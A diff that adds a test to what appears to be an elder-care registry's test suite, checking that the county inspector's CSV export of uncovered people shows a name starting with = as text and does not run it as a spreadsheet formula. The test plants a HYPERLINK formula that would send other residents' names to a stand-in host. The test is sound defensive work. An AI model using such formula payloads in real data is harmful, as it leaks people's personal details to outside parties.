@@ -295,3 +295,23 @@ def test_a_revoked_tokens_alert_stream_ends_before_the_next_alert(client: httpx.
         asyncio.run(publish())
         delivered = next((line for line in lines if line.startswith(("event:", "data:"))), None)
     assert delivered is None, delivered  # the stream ended instead (a console reconnects, and is refused)
+
+
+# ---- what an export carries to an inspector's spreadsheet -------------------------------------------
+
+
+def test_a_name_cannot_plant_a_formula_in_an_inspectors_spreadsheet(client: httpx.Client, care_app: CareApplication) -> None:
+    """A village cadre registers whatever name they type; the county's inspector opens the
+    county's uncovered list in a spreadsheet. A cell starting with = (or + - @) is a formula there,
+    and one can send the neighbouring cells (everyone else's names) to any address."""
+    w = Village(client)
+    formula = '=HYPERLINK("http://x.example/?"&B3,"查看")'
+    with as_role(client, "village_cadre", w.v1) as cadre:
+        planted = ok(cadre.post("/persons", json=elder(w.v1, name=formula)))["id"]
+    with as_role(client, "county_supervisor", w.tree.county["id"]) as inspector:
+        for lang in ("zh", "en"):
+            csv = inspector.get(f"/supervision/{w.tree.county['id']}/uncovered.csv",
+                                params={"lang": lang, "limit": 500, "min_position": position(care_app)})  # fmt: skip
+            row = next(line for line in csv.text.splitlines() if line.startswith(planted))
+            cell = row.split(",", 1)[1]
+            assert cell.startswith(("'=", "\"'=")) and "HYPERLINK" in cell, row  # shown as text, not run
